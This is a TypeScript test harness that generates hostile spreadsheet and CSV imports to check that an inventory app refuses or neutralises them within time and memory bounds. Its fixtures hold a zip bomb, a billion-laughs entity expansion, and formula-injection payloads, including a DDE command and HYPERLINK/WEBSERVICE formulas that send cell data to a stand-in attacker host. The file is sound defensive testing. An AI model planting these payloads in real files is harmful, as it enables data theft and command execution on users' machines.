/**
 * Guarantee: a list file built to do harm (a zip bomb whose headers lie, entities that expand,
 * formulas, huge rows, wrong encodings, a file that is not what its name says) is refused with a
 * reason, or imported as plain text, within bounded time and memory; a refusal leaves the plan as
 * it was. Each file is read and imported in a child process of its own (importChild.ts), as
 * `paraat import-list` does; what was imported is then exported as CSV and must hold no formula.
 */
import { spawn } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Deflate, deflateSync, strToU8, unzipSync } from 'fflate';
import { handMadeZip } from '../../tests/builders/handMadeZip';
import { sheetXml, workbook } from '../../tests/fixtures/import-corpus/files';
import { bundled } from './bundle';
import { fingerprint, headlessApp } from './common';
import { examplePlanFile } from './hostileCorpus';
import { formulaCells } from './hostileExports';

export interface ImportAnswer {
  /** refused: the reader said why; stored: rows went into the plan; nothing: read, but no row could be imported. */
  outcome: 'refused' | 'stored' | 'nothing' | 'crash';
  problem?: string;
  ms: number;
  peakRssMb: number;
}

interface HostileImport {
  label: string;
  path: string;
  /** The reader's problem it must be refused with, or 'read' when it may be read (and then imported as text). */
  expected: string | 'read';
}

export interface HostileImportFigures {
  files: number;
  refused: number;
  imported: number;
  /** Refused with another reason than expected, read though it had to be refused, or a crash. */
  misjudged: number;
  /** A refusal that changed the plan. */
  planChangedByRefusal: number;
  /** Formulas in the inventory CSV exported after every import. */
  formulasExported: number;
  slowestMs: number;
  slowest: string;
  largestRssMb: number;
  largest: string;
  /** Files past 5 s or 300 MB. */
  overBudget: number;
  problems: string[];
}

const HEADER = ['Naam', 'Type', 'Locatie', 'Opmerking'];
const FORMULAS = [
  '=HYPERLINK("http://aanvaller.example/?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1+cmd',
  '-2+3+cmd',
];

/** Deflated `before`, `megabytes` of spaces, then `after`: a few hundred kilobytes that inflate to the size asked. */
function deflatedPadding(before: string, megabytes: number, after: string): Uint8Array {
  const chunks: Uint8Array[] = [];
  const deflate = new Deflate({ level: 9 }, (chunk) => chunks.push(chunk));
  deflate.push(strToU8(before));
  const spaces = new Uint8Array(1024 * 1024).fill(0x20);
  for (let i = 0; i < megabytes; i++) deflate.push(spaces);
  deflate.push(strToU8(after), true);
  return new Uint8Array(Buffer.concat(chunks));
}

/** A valid workbook with its sheet replaced by `sheet`, stating `statedSize` for it. */
function workbookWithSheet(sheet: { deflated: Uint8Array; statedSize: number }): Uint8Array {
  const parts = unzipSync(workbook(sheetXml([HEADER, ['server-01', 'server', 'Kelder', '']])));
  return handMadeZip(
    Object.entries(parts).map(([name, content]) =>
      name === 'xl/worksheets/sheet1.xml' ? { name, ...sheet } : { name, content },
    ),
  );
}

const csv = (rows: readonly (readonly string[])[]) =>
  rows.map((row) => row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(';')).join('\r\n');

function buildHostileImports(dir: string, options: { bombMb: number }): HostileImport[] {
  const files: HostileImport[] = [];
  const add = (label: string, name: string, expected: HostileImport['expected'], bytes: Uint8Array | string) => {
    const path = join(dir, `${files.length}-${name}`);
    writeFileSync(path, bytes);
    files.push({ label, path, expected });
  };
  const sheetStart =
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Naam</t></is></c></row>';
  const sheetEnd = '</sheetData></worksheet>';
  add(
    `an .xlsx whose sheet states 1 KB and inflates to ${options.bombMb} MB`,
    'bom.xlsx',
    'tooLargeUnpacked',
    workbookWithSheet({ deflated: deflatedPadding(sheetStart, options.bombMb, sheetEnd), statedSize: 1024 }),
  );
  add(
    `an .xlsx stating its true ${options.bombMb} MB`,
    'groot.xlsx',
    'tooLargeUnpacked',
    workbookWithSheet({
      deflated: deflatedPadding(sheetStart, options.bombMb, sheetEnd),
      statedSize: options.bombMb * 1024 * 1024 + sheetStart.length + sheetEnd.length,
    }),
  );
  const entities = Array.from({ length: 9 }, (_, i) =>
    i === 0 ? '<!ENTITY l0 "hahahahaha">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`,
  ).join('');
  const laughs = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [${entities}]>${sheetStart}<row r="2"><c r="A2" t="inlineStr"><is><t>&l8;</t></is></c></row>${sheetEnd}`;
  add(
    'an .xlsx whose sheet declares entities that expand to a gigabyte',
    'lach.xlsx',
    'read',
    workbookWithSheet({ deflated: deflateSync(strToU8(laughs)), statedSize: laughs.length }),
  );
  const formulaRows = FORMULAS.map(
    (formula, i) =>
      `<row r="${i + 2}"><c r="A${i + 2}" t="inlineStr"><is><t>systeem-${i}</t></is></c><c r="B${i + 2}" t="str"><f>HYPERLINK("http://aanvaller.example")</f><v>${formula.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')}</v></c><c r="D${i + 2}" t="inlineStr"><is><t>${formula.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</t></is></c></row>`,
  ).join('');
  add(
    'an .xlsx of formulas whose stored values are formulas again',
    'formules.xlsx',
    'read',
    workbook(
      `<sheetData><row r="1">${HEADER.map((h, c) => `<c r="${'ABCD'[c]}1" t="inlineStr"><is><t>${h}</t></is></c>`).join('')}</row>${formulaRows}</sheetData>`,
    ),
  );
  add(
    'an .xlsx with a formula never calculated',
    'onberekend.xlsx',
    'formulasNotCalculated',
    workbook(
      `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Naam</t></is></c></row><row r="2"><c r="A2"><f>WEBSERVICE("http://aanvaller.example")</f></c></row></sheetData>`,
    ),
  );
  add(
    'a CSV with a formula in every cell',
    'formules.csv',
    'read',
    csv([HEADER, ...FORMULAS.map((formula, i) => [`systeem-${i} ${formula}`, formula, formula, formula])]),
  );
  add(
    'a CSV of one 20 MB cell',
    'cel.csv',
    'read',
    csv([HEADER, ['server-01', 'server', 'x'.repeat(20 * 1024 * 1024), '']]),
  );
  add(
    'a CSV of 20,001 rows',
    'rijen.csv',
    'tooManyRows',
    csv([HEADER, ...Array.from({ length: 20_001 }, (_, i) => [`pc-${i}`, 'laptop', 'Kantoor', ''])]),
  );
  add('a CSV of 501 columns', 'kolommen.csv', 'tooManyColumns', csv([Array.from({ length: 501 }, (_, i) => `K${i}`)]));
  add(
    'a 30 MB CSV',
    'dertig.csv',
    'tooLarge',
    csv([HEADER, ['server-01', 'server', 'y'.repeat(30 * 1024 * 1024), '']]),
  );
  add(
    'UTF-16 without a byte order mark',
    'utf16.csv',
    'read',
    Buffer.from(csv([HEADER, ['server-01', 'server', 'Kelder', 'Ça va']]), 'utf16le'),
  );
  add(
    'Windows-1252 with bytes UTF-8 cannot read',
    'ansi.csv',
    'read',
    Buffer.from(csv([HEADER, ['server-01', 'server', 'Kelder', 'caf\u00e9 \u0080']]), 'latin1'),
  );
  add('text with NUL bytes', 'nul.csv', 'notATable', `Naam;Type\r\nserver\u0000\u0000\u0000;x\r\n`.repeat(50));
  add(
    'a PNG named .csv',
    'foto.csv',
    'notATable',
    Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(2000, 0)]),
  );
  add('a plan file named .xlsx', 'plan.xlsx', 'notATable', readFileSync(examplePlanFile(join(dir, 'plan.source'))));
  add(
    'a Word document named .xlsx',
    'brief.xlsx',
    'spreadsheetUnreadable',
    handMadeZip([{ name: 'word/document.xml', content: strToU8('<w:document/>') }]),
  );
  add(
    'an old Excel file (.xls)',
    'oud.xls',
    'oldExcel',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]),
  );
  return files;
}

function runImport(plan: string, file: string, script: string): Promise<ImportAnswer> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [script, plan, 'systems', file], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.on('close', (status, signal) => {
      try {
        resolve(JSON.parse(stdout.trim().split('\n').at(-1) ?? '') as ImportAnswer);
      } catch {
        resolve({ outcome: 'crash', problem: `exit ${status ?? signal}: ${stderr.slice(-300)}`, ms: 0, peakRssMb: 0 });
      }
    });
  });
}

/** What a hostile import may cost at most: the issue's bound for a refusal. */
export const IMPORT_BUDGET = { ms: 5_000, rssMb: 300 };

export async function hostileImportHarness(options: { dir: string; bombMb: number }): Promise<HostileImportFigures> {
  const filesDir = join(options.dir, 'imports');
  mkdirSync(filesDir, { recursive: true });
  const files = buildHostileImports(filesDir, options);
  const plan = examplePlanFile(join(options.dir, 'import-target.paraat'));
  const script = await bundled('importChild');
  const figures: HostileImportFigures = {
    files: 0,
    refused: 0,
    imported: 0,
    misjudged: 0,
    planChangedByRefusal: 0,
    formulasExported: 0,
    slowestMs: 0,
    slowest: '',
    largestRssMb: 0,
    largest: '',
    overBudget: 0,
    problems: [],
  };
  for (const file of files) {
    figures.files++;
    const before = fingerprint(plan);
    const answer = await runImport(plan, file.path, script);
    if (answer.ms > figures.slowestMs) Object.assign(figures, { slowestMs: answer.ms, slowest: file.label });
    if (answer.peakRssMb > figures.largestRssMb)
      Object.assign(figures, { largestRssMb: answer.peakRssMb, largest: file.label });
    if (answer.ms > IMPORT_BUDGET.ms || answer.peakRssMb > IMPORT_BUDGET.rssMb) figures.overBudget++;
    if (answer.outcome === 'refused') {
      figures.refused++;
      if (fingerprint(plan) !== before) {
        figures.planChangedByRefusal++;
        figures.problems.push(`${file.label}: refused, but the plan changed`);
      }
    } else if (answer.outcome === 'stored') figures.imported++;
    const right =
      answer.outcome === 'crash'
        ? false
        : file.expected === 'read'
          ? answer.outcome !== 'refused'
          : answer.outcome === 'refused' && answer.problem === file.expected;
    if (!right) {
      figures.misjudged++;
      figures.problems.push(`${file.label}: ${answer.outcome} (${answer.problem ?? ''}), expected ${file.expected}`);
    }
  }
  // What was imported goes out again as CSV without a formula.
  const app = headlessApp(join(options.dir, 'import-app'));
  await app.call('plan.open', { path: plan });
  const exported = join(options.dir, 'inventory.csv');
  app.dialogs.answers.exportPath = exported;
  const answer = await app.call('inventory.exportCsv');
  app.closeAll();
  if (!answer.ok) figures.problems.push(`the inventory CSV after the imports: ${answer.error.code}`);
  else {
    const formulas = formulaCells(readFileSync(exported, 'utf8'));
    figures.formulasExported = formulas.length;
    figures.problems.push(...formulas.slice(0, 5).map((cell) => `inventory CSV: formula ${cell}`));
  }
  return figures;
}
